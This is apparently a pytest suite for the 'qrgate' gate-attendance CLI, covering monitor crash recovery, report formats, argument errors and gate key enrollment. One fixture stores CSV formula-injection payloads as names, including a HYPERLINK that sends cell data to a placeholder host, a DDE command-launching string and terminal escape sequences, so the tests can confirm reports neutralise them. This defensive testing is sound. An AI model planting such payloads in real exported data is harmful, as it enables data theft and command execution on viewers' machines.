"""`qrgate monitor` as a process, and `qrgate report` in every format."""

from __future__ import annotations

import csv
import io
import json
import os
import signal
import subprocess
import time
from collections.abc import Callable
from pathlib import Path

import paho.mqtt.client as paho
import pytest
from cryptography.hazmat.primitives.asymmetric import ed25519
from paho.mqtt.enums import CallbackAPIVersion

from monitor.storage.store import Store
from mqtt.signing import EventSigner, key_id, public_text
from scanner.cli import run
from tests.support.broker import Mosquitto
from tests.support.central import stored_events
from tests.support.cli import QRGATE
from tests.support.monitor_events import gate_event, payload, record, topic

ROOT = Path(__file__).resolve().parent.parent
DAY = "2026-03-02"
A_NAME = "Nguyễn Văn A"


def start_monitor(broker: Mosquitto, db: str) -> subprocess.Popen[str]:
    return subprocess.Popen(
        [*QRGATE, "monitor", "--broker", broker.url, "--db", db, "--quiet", "--client-id", "c1"],
        cwd=ROOT,
        stderr=subprocess.PIPE,
        text=True,
    )


def wait_for(condition: Callable[[], bool], timeout_s: float = 15.0) -> None:
    deadline = time.monotonic() + timeout_s
    while not condition():
        assert time.monotonic() < deadline, "timed out"
        time.sleep(0.05)


def wait_subscribed(monitor: subprocess.Popen[str]) -> None:
    """Until the broker granted the subscriptions: what is published before is not ours."""
    assert monitor.stderr is not None
    for _ in range(20):
        line = monitor.stderr.readline()
        if "subscribed to" in line:
            return
    pytest.fail("the monitor did not subscribe")


def test_killed_monitor_resumes_its_session_and_loses_nothing(
    mosquitto: Mosquitto, tmp_path: Path
) -> None:
    db = f"sqlite:///{tmp_path}/central.db"
    gate = paho.Client(CallbackAPIVersion.VERSION2, protocol=paho.MQTTv5)
    gate.connect("127.0.0.1", mosquitto.port)
    gate.loop_start()
    events = [gate_event(seq, f"{DAY}T08:00") for seq in range(1, 601)]
    try:
        monitor = start_monitor(mosquitto, db)
        wait_subscribed(monitor)
        for event in events[:300]:
            gate.publish(topic(event), payload(event), qos=1)
        wait_for(lambda: stored_events(db) > 0)
        monitor.kill()  # mid-stream: some stored and not acknowledged, some not stored
        monitor.wait()
        for event in events[300:]:  # published while no monitor runs
            gate.publish(topic(event), payload(event), qos=1).wait_for_publish(5)
        monitor = start_monitor(mosquitto, db)
        wait_for(lambda: stored_events(db) == 600)
        monitor.send_signal(signal.SIGTERM)
        assert monitor.wait(15) == 0
    finally:
        gate.loop_stop()
        gate.disconnect()
        if monitor.poll() is None:
            monitor.kill()
            monitor.wait()
    store = Store(db, create=False)
    assert store.gaps() == []
    assert [gate.events for gate in store.gates()] == [600]
    store.close()


@pytest.fixture
def day_db(tmp_path: Path) -> str:
    db = f"sqlite:///{tmp_path}/day.db"
    store = Store(db)
    events = [
        gate_event(1, f"{DAY}T01:00", subject="A", name=A_NAME),
        gate_event(
            1, f"{DAY}T02:00", gate="out-1", direction="out", subject="A", name="Nguyễn Văn A"
        ),
        gate_event(2, f"{DAY}T03:00", subject="B"),
        gate_event(4, f"{DAY}T04:00", subject="A", name=A_NAME),
    ]
    store.write([record(event) for event in events])
    store.close()
    return db


def report(capsys: pytest.CaptureFixture[str], *args: str) -> tuple[int, str, str]:
    code = run(["report", *args])
    out, err = capsys.readouterr()
    return code, out, err


def test_attendance_as_csv_in_a_time_zone(day_db: str, capsys: pytest.CaptureFixture[str]) -> None:
    code, out, _ = report(
        capsys, "attendance", "--db", day_db, "--date", DAY, "--format", "csv",
        "--tz", "Asia/Ho_Chi_Minh",
    )  # fmt: skip
    assert code == 0
    assert list(csv.DictReader(io.StringIO(out))) == [
        {
            "site": "f1",
            "subject": "A",
            "name": "Nguyễn Văn A",
            "first_in": f"{DAY}T08:00:00.000+07:00",
            "last_out": f"{DAY}T09:00:00.000+07:00",
            "on_site_s": str(14 * 3600.0),
            "inside_at_start": "false",
            "inside_at_end": "true",
        },
        {
            "site": "f1",
            "subject": "B",
            "name": "Worker B",
            "first_in": f"{DAY}T10:00:00.000+07:00",
            "last_out": "",
            "on_site_s": str(14 * 3600.0),
            "inside_at_start": "false",
            "inside_at_end": "true",
        },
    ]


def test_onsite_and_gaps_as_json(day_db: str, capsys: pytest.CaptureFixture[str]) -> None:
    code, out, _ = report(capsys, "onsite", "--db", day_db, "--format", "json")
    assert code == 0
    assert [(row["subject"], row["since"]) for row in json.loads(out)] == [
        ("A", f"{DAY}T04:00:00.000Z"),
        ("B", f"{DAY}T03:00:00.000Z"),
    ]
    code, out, _ = report(capsys, "gaps", "--db", day_db, "--format", "json")
    assert json.loads(out) == [
        {"site": "f1", "gate": "in-1", "first": 3, "last": 3, "missing": 1},
    ]


def test_contacts_as_a_table(day_db: str, capsys: pytest.CaptureFixture[str]) -> None:
    code, out, _ = report(
        capsys, "contacts", "--db", day_db, "--subject", "B", "--from", DAY, "--to", "2026-03-03"
    )
    assert code == 0
    assert "Contacts of B (21:00:00 on site in the period): 1" in out
    assert "Nguyễn Văn A" in out
    assert "20:00:00" in out  # A back at 04:00, with B until the end of the period


HOSTILE = {
    "F": '=HYPERLINK("http://x.invalid/?"&A1,"Nguyen")',
    "P": "+1+cmd|' /C calc'!A0",
    "M": "-2+3",
    "T": "@SUM(1)",
    "H": "\tTab",
    "R": "\rCR",
    "E": "Esc\x1b[2J\x1b]8;;http://x.invalid\x07link\x1b]8;;\x07 Bell\x07 [bold]markup[/bold]",
}


@pytest.fixture
def hostile_db(tmp_path: Path) -> str:
    db = f"sqlite:///{tmp_path}/hostile.db"
    store = Store(db)
    store.write(
        [
            record(gate_event(seq, f"{DAY}T0{seq}:00", subject=subject, name=name))
            for seq, (subject, name) in enumerate(HOSTILE.items(), start=1)
        ]
    )
    store.close()
    return db


def test_no_report_hands_a_spreadsheet_a_formula(
    hostile_db: str, capsys: pytest.CaptureFixture[str]
) -> None:
    code, out, _ = report(capsys, "onsite", "--db", hostile_db, "--format", "csv")
    assert code == 0
    names = {row["subject"]: row["name"] for row in csv.DictReader(io.StringIO(out, newline=""))}
    assert {subject: names[subject] for subject in "FPMT"} == {
        subject: "'" + HOSTILE[subject] for subject in "FPMT"
    }
    assert (names["H"], names["R"]) == ("Tab", "CR")  # control characters go
    assert not any(ch in out for ch in "\x1b\x07\r\t")
    code, out, _ = report(capsys, "onsite", "--db", hostile_db, "--format", "json")
    assert {row["subject"]: row["name"] for row in json.loads(out)} == HOSTILE  # JSON escapes


def test_no_report_table_hands_a_terminal_control_characters(
    hostile_db: str, capsys: pytest.CaptureFixture[str]
) -> None:
    code, out, _ = report(capsys, "onsite", "--db", hostile_db)
    assert code == 0
    assert not any(ch in out for ch in "\x1b\x07\r\t")
    assert "[bold]markup" in out  # shown as written, not as rich markup


def test_reports_say_which_gates_nothing_authenticates(
    day_db: str, capsys: pytest.CaptureFixture[str]
) -> None:
    code, out, err = report(capsys, "onsite", "--db", day_db, "--format", "json")
    assert code == 0
    json.loads(out)  # the notes stay out of the report itself
    assert "note: 3 event(s) of f1/in-1 are not authenticated (its key is not enrolled" in err
    assert "note: 1 event(s) of f1/out-1 are not authenticated" in err


@pytest.mark.parametrize(
    ("args", "code", "message"),
    [
        (["gaps", "--db", "sqlite:///no/such.db"], 1, "no monitor store at no/such.db"),
        (["gaps", "--db", "mysql://x"], 1, "unsupported store URL"),
        (["onsite", "--tz", "Mars/Olympus"], 2, "unknown time zone"),
        (["attendance", "--date", "yesterday"], 2, "is not YYYY-MM-DD"),
        (["contacts", "--subject", "A", "--from", "2026-03-02", "--to", "2026-03-01"], 2, "after"),
        (["gaps", "--resend", "--command-kid=k"], 2, "--resend needs --broker, --command-key\n"),
        (
            [
                "gaps",
                "--resend",
                "--broker=mqtt://127.0.0.1:1",
                f"--ca-file={__file__}",
                f"--command-key={__file__}",
                "--command-kid=k",
            ],
            2,
            "--ca-file/--cert-file need an mqtts:// broker URL",
        ),
    ],
)
def test_bad_report_arguments(
    capsys: pytest.CaptureFixture[str], args: list[str], code: int, message: str
) -> None:
    got, _, err = report(capsys, *args)
    assert got == code
    assert message in err
    assert "Traceback" not in err


@pytest.mark.parametrize(
    ("args", "message"),
    [
        (["--broker", "http://x"], "is not mqtt://HOST[:PORT]"),
        (["--broker", "mqtt://x", "--shared", "a/b"], "not a valid topic level"),
        (["--broker", "mqtt://x", "--cert-file", __file__], "go together"),
    ],
)
def test_bad_monitor_arguments(
    capsys: pytest.CaptureFixture[str], args: list[str], message: str
) -> None:
    code = run(["monitor", "--db", "sqlite:///unused.db", *args])
    assert code in (1, 2)
    assert message in capsys.readouterr().err


def test_monitor_help_names_the_default_store() -> None:
    done = subprocess.run(
        [*QRGATE, "monitor", "--help"],
        capture_output=True,
        text=True,
        cwd=ROOT,
        check=False,
        env={**os.environ, "COLUMNS": "200"},
    )
    assert "sqlite:///./qrgate-monitor.db" in done.stdout


def test_a_key_and_kid_starting_with_a_dash_are_values_not_options(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """Base64url has "-": one key in 64 starts with it, and so does one kid in 64; half
    of those hold an "h" besides, which click would read as -h, its help."""
    db = f"sqlite:///{tmp_path}/keys.db"
    dashed = {"key": None, "kid": None}
    while None in dashed.values():
        public = ed25519.Ed25519PrivateKey.generate().public_key()
        for part, text in (("key", public_text(public)), ("kid", key_id(public))):
            if text.startswith("-") and "h" in text and dashed[part] is None:
                dashed[part] = public
    for public in dashed.values():
        assert public is not None
        assert run(["gates", "enroll", "f1/g1", public_text(public), "--db", db]) == 0
        assert run(["gates", "remove", "f1/g1", key_id(public), "--db", db]) == 0
        assert capsys.readouterr().out.endswith("f1/g1: 1 key(s) removed\n")


def test_gates_are_enrolled_listed_and_removed(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    db = f"sqlite:///{tmp_path}/keys.db"
    public = public_text(EventSigner.load_or_create(tmp_path / "k.pem").public)

    def gates(*args: str) -> tuple[int, str, str]:
        code = run(["gates", *args, "--db", db])
        out, err = capsys.readouterr()
        return code, out, err

    assert gates("enroll", "f1", public)[0] == 2
    code, _, err = gates("enroll", "f1/g1", "AAAA")
    assert (code, "43 base64url characters" in err) == (2, True)
    code, out, _ = gates("enroll", "f1/g1", public)
    assert code == 0
    kid = out.split()[2]
    assert out == f"f1/g1: key {kid} enrolled\n"
    assert gates("enroll", "f1/g1", public)[1] == f"f1/g1: key {kid} already enrolled\n"
    listed = gates("list")[1].splitlines()
    assert listed[1].split() == ["f1/g1", "unknown", "0", "0", "0", kid]
    assert gates("remove", "f1/g1")[1] == "f1/g1: 1 key(s) removed\n"
    code, _, err = gates("remove", "f1/g1", kid)
    assert (code, "has no such key enrolled" in err) == (1, True)


def test_event_key_shows_the_gate_s_public_key_and_how_to_enroll_it(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    config = tmp_path / "gate.toml"
    config.write_text(f'[store]\npath = "{tmp_path}/state/qrgate.db"\n')
    assert run(["event-key", "-c", str(config)]) == 0
    out, err = capsys.readouterr()
    assert "made a new event key" in err
    key = tmp_path / "state" / "event-key.pem"
    assert oct(key.stat().st_mode & 0o777) == "0o600"
    public = public_text(EventSigner.load(key).public)
    assert f"public key  {public}\n" in out
    assert f"qrgate gates enroll factory-1/gate-1 {public} --db URL" in out
    assert run(["event-key", "-c", str(config), "--json"]) == 0
    shown = json.loads(capsys.readouterr().out)
    assert (shown["site"], shown["gate"], shown["x"]) == ("factory-1", "gate-1", public)
